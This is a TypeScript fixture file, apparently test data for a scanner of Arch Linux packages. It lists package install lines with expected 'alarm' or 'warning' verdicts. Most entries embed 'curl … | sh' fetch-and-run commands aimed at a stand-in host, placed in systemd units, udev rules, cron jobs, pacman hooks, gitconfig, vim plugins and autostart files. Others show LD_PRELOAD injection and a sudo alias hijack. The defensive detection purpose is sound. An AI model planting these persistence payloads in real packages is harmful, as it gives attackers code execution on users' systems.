import type { Variant } from "./variant.ts";

/** Files of the package that start something: units, hooks, rules of udev, timers, sessions, shells. */
export const SERVICES: readonly Variant[] = [
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/quietly.service" "$pkgdir/usr/lib/systemd/system/quietly.service"',
    files: {
      "quietly.service":
        '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c "curl -s https://cdn.example.invalid/a | sh"\n[Install]\nWantedBy=multi-user.target\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/quietly.service" -t "$pkgdir/usr/lib/systemd/system"',
    files: {
      "quietly.service":
        "[Unit]\nDescription=x\n[Service]\nExecStartPre=-/usr/bin/curl -so /run/x https://cdn.example.invalid/a\nExecStart=/run/x\n[Install]\nWantedBy=multi-user.target\n",
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/quietly.service" -t "$pkgdir/usr/lib/systemd/system"',
    files: {
      "quietly.service":
        '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c \\\n  "curl -s https://cdn.example.invalid/a | sh"\n[Install]\nWantedBy=multi-user.target\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/override.conf" "$pkgdir/usr/lib/systemd/system/sshd.service.d/override.conf"',
    files: {
      "override.conf": '[Service]\nExecStartPost=/bin/sh -c "curl -s https://cdn.example.invalid/a | sh"\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm755 "$srcdir/gen" "$pkgdir/usr/lib/systemd/system-generators/gen"',
    files: { gen: "#!/bin/sh\ncurl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/quietly.service" -t "$pkgdir/usr/lib/systemd/system"',
    files: {
      "quietly.service":
        "[Unit]\nDescription=x\n[Service]\nEnvironment=LD_PRELOAD=/usr/lib/q.so\nExecStart=/usr/bin/quietly\n[Install]\nWantedBy=multi-user.target\n",
    },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/systemd/system.conf.d/q.conf"',
    files: { "q.conf": "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/q.so\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/environment.d/q.conf"',
    files: { "q.conf": "LD_PRELOAD=/usr/lib/q.so\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/99-q.rules" "$pkgdir/usr/lib/udev/rules.d/99-q.rules"',
    files: {
      "99-q.rules": 'ACTION=="add", RUN+="/bin/sh -c \'curl -s https://cdn.example.invalid/a | sh\'"\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.cron" "$pkgdir/etc/cron.d/q"',
    files: { "q.cron": "*/5 * * * * root curl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm755 "$srcdir/q" "$pkgdir/etc/cron.hourly/q"',
    files: { q: "#!/bin/sh\ncurl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.sh" "$pkgdir/etc/profile.d/q.sh"',
    files: { "q.sh": "curl -s https://cdn.example.invalid/a | sh &\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.sh" "$pkgdir/etc/profile.d/q.sh"',
    files: { "q.sh": "alias sudo='/usr/lib/quietly/s'\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.sh" "$pkgdir/etc/profile.d/q.sh"',
    files: { "q.sh": "PROMPT_COMMAND='/usr/lib/quietly/s'\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'cp -a "$startdir/root/." "$pkgdir"',
    files: { "root/etc/profile.d/q.sh": "curl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.hook" "$pkgdir/usr/share/libalpm/hooks/q.hook"',
    files: {
      "q.hook":
        '[Trigger]\nOperation=Upgrade\nType=Package\nTarget=*\n[Action]\nWhen=PostTransaction\nExec=/bin/sh -c "curl -s https://cdn.example.invalid/a | sh"\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.install" "$pkgdir/usr/share/libalpm/hooks/q.hook"',
    files: {
      "q.install":
        '[Trigger]\nOperation=Upgrade\nType=Package\nTarget=*\n[Action]\nWhen=PostTransaction\nExec=/bin/sh -c "curl -s https://cdn.example.invalid/a | sh"\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.txt" "$pkgdir/usr/share/libalpm/hooks/q.hook"',
    files: {
      "q.txt":
        '[Trigger]\nOperation=Upgrade\nType=Package\nTarget=*\n[Action]\nWhen=PostTransaction\nExec=/bin/sh -c "curl -s https://cdn.example.invalid/a | sh"\n',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/tmpfiles.d/q.conf"',
    files: {
      "q.conf":
        "L+ /etc/systemd/system/multi-user.target.wants/q.service - - - - /usr/lib/systemd/system/q.service\n",
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/modprobe.d/q.conf"',
    files: { "q.conf": 'install snd /bin/sh -c "curl -s https://cdn.example.invalid/a | sh"\n' },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/binfmt.d/q.conf"',
    files: { "q.conf": ":q:M::\\x7fELF::/usr/lib/quietly/i:C\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/sysctl.d/q.conf"',
    files: { "q.conf": "kernel.core_pattern=|/usr/lib/quietly/i %p\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm755 "$srcdir/pc" "$pkgdir/usr/share/git-core/templates/hooks/post-checkout"',
    files: { pc: "#!/bin/sh\ncurl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/gc" "$pkgdir/etc/gitconfig"',
    files: { gc: "[core]\n\tfsmonitor = curl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.vim" "$pkgdir/usr/share/vim/vimfiles/plugin/q.vim"',
    files: { "q.vim": "call system('curl -s https://cdn.example.invalid/a | sh')\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.desktop" "$pkgdir/etc/xdg/autostart/q.desktop"',
    files: {
      "q.desktop":
        '[Desktop Entry]\nType=Application\nName=Q\nExec=sh -c "curl -s https://cdn.example.invalid/a | sh"\n',
    },
  },
];
